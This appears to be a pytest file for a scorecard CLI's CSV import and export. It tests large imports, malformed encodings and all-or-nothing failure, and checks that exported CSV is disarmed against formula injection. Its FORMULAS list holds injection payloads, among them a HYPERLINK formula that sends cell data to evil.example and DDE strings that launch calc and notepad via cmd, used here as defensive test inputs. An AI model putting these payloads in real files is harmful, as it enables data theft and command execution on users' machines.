"""CSV from the outside world: big, badly encoded, formula-laden.

``import`` is all or nothing (a bad file leaves the database byte-identical)
and its errors are short; an exported CSV never carries a live formula or a
terminal escape.
"""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta

import pytest

from scorecard.defaults import DEFAULT_METRICS
from scorecard.weeks import Week
from tests.conftest import digest
from tests.reliability.conftest import bound, one_line_error, terminal

KEYS = [m.key for m in DEFAULT_METRICS if not m.derived]

#: Rows of the big CSV: enough that every row cannot be its own transaction or
#: statement unnoticed. Speed at scale is the benchmark's (bench/crm.py imports
#: a 100,000-row CRM export); the soak imports 1,000,000 rows here.
BIG = bound(20_000, 1_000_000)


def _big_csv(path, rows):
    weeks = rows // len(KEYS)
    monday = date(2026, 11, 16)
    with path.open("w", encoding="utf-8", newline="") as fh:
        fh.write("week,metric,value,note\n")
        for i in range(weeks):
            week = Week.of(monday - timedelta(weeks=i))
            for key in KEYS:
                fh.write(f"{week},{key},{i % 101},row {i}\n")  # in every unit's bounds
    return weeks * len(KEYS)


def test_a_big_csv_imports_in_one_go(workspace_dir, db_file):
    rows = _big_csv(workspace_dir / "big.csv", BIG)
    before = digest(db_file)
    dry = terminal("import", "big.csv", "--dry-run")
    assert dry.exit_code == 0, dry.stderr
    assert f"{rows} new" in dry.stdout
    assert digest(db_file) == before
    done = terminal("import", "big.csv")
    assert done.exit_code == 0, done.stderr
    assert f"({rows} written)" in done.stdout
    again = terminal("import", "big.csv")  # unchanged rows are not rewritten
    assert f"{rows} unchanged (0 written)" in again.stdout
    exported = terminal("export", "--from", "1800-W01", "-f", "csv")
    assert len(exported.stdout.splitlines()) == rows + 1


def test_one_bad_row_among_many_imports_nothing(workspace_dir, db_file):
    rows = _big_csv(workspace_dir / "big.csv", BIG)
    with (workspace_dir / "big.csv").open("a", encoding="utf-8") as fh:
        fh.write("2026-W47,mqls,lots,the last row is bad\n")
    before = digest(db_file)
    done = terminal("import", "big.csv")
    assert done.exit_code == 2
    assert done.stderr.splitlines() == [
        f"scorecard: big.csv: line {rows + 2}: 'lots' is not a number",
        "scorecard: big.csv: 1 bad row; nothing was imported",
    ]
    assert digest(db_file) == before


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ("week,metric,value\n2026-W47,mqls,5\n".encode("cp1252") + b"\x81", "cannot tell the"),
        ("week,metric,value\n2026-W47,mqls,5\n".encode("utf-16")[:-1], "not valid UTF-16"),
        (bytes(range(256)) * 64, "cannot tell the encoding"),
        (b"", "the file is empty"),
        (b"week,metric,value,note\n2026-W47,mqls,5,a\x00b\n", "nothing was imported"),
        (b"week,metric,value,note\n2026-W47,mqls,5," + b"x" * 200_000 + b"\n", "not valid CSV"),
        (",".join(f"c{i}" for i in range(50_000)).encode() + b"\n", "missing column week"),
        (b"week,metric,value\n2026-W47,mqls,=1+1\n", "'=1+1' is not a number"),
        (b"week,metric,value\n2026-W47,mqls,@SUM(A1)\n", "not a number"),
        (b"week,metric,value\n2025-W53,mqls,5\n", "2025 has weeks 1 to 52"),
        (b"week,metric,value\n2026-W47,mqls,1e309\n", "not a number"),
    ],
    ids=[
        "cp1252-undefined-byte",
        "utf-16-cut",
        "binary",
        "empty",
        "nul",
        "huge-cell",
        "50k-columns",
        "formula-value",
        "at-value",
        "bad-week",
        "overflow",
    ],
)
def test_bad_csv_files_are_refused_briefly_and_change_nothing(
    workspace_dir, db_file, content, message
):
    (workspace_dir / "in.csv").write_bytes(content)
    before = digest(db_file)
    done = terminal("import", "in.csv")
    assert done.exit_code == 2
    assert message in done.stderr
    assert "Traceback" not in done.stderr
    assert all(len(line) < 500 for line in done.stderr.splitlines()), done.stderr[:600]
    assert digest(db_file) == before


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!'A1'",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "'=already quoted",
    "\x1b=hidden behind an escape",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_exported_csv_never_carries_a_live_formula(workspace_dir, text):
    csv_text = "week,metric,value,note\n" + f"2026-W47,mqls,5,{_quote(text)}\n"
    (workspace_dir / "in.csv").write_text(csv_text, encoding="utf-8")
    assert terminal("import", "in.csv").exit_code == 0
    terminal("note", "add", "idea", text)
    terminal("commitment", "add", text, "--owner", text.strip("\x1b"), "--team", "sales")
    for args in (("-f", "csv"), ("-f", "csv", "--commitments")):
        exported = terminal("export", *args, "-o", "out.csv")
        assert exported.exit_code == 0, exported.stderr
        out = (workspace_dir / "out.csv").read_text(encoding="utf-8")
        for row in csv.reader(io.StringIO(out)):
            for cell in row:
                live = cell[:1] in ("=", "+", "-", "@", "\t", "\r")
                assert not live or _is_plain_number(cell), (args, cell)
                assert "\x1b" not in cell


def _quote(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def _is_plain_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_neutralised_cells_come_back_as_typed(workspace_dir):
    """Export then import gives back the text, not the quote that disarmed it."""
    text = '=HYPERLINK("http://x","y")'
    assert terminal("set", "mqls", "5", "--note", text).exit_code == 0
    assert terminal("export", "-f", "csv", "-o", "out.csv").exit_code == 0
    assert "'=HYPERLINK" in (workspace_dir / "out.csv").read_text(encoding="utf-8")
    assert terminal("set", "mqls", "6", "--note", "overwritten").exit_code == 0
    assert terminal("import", "out.csv").exit_code == 0
    from scorecard.weeks import parse_week
    from scorecard.workspace import Workspace

    with Workspace.open(workspace_dir / "scorecard.toml") as ws:
        assert ws.value(parse_week("2026-W47"), "mqls").note == text


def test_error_for_a_bad_csv_is_one_line_when_the_file_is(workspace_dir, db_file):
    (workspace_dir / "in.csv").write_bytes(b"\xff\xfe\x00garbage")
    before = digest(db_file)
    one_line_error(terminal("import", "in.csv"), 2)
    assert digest(db_file) == before
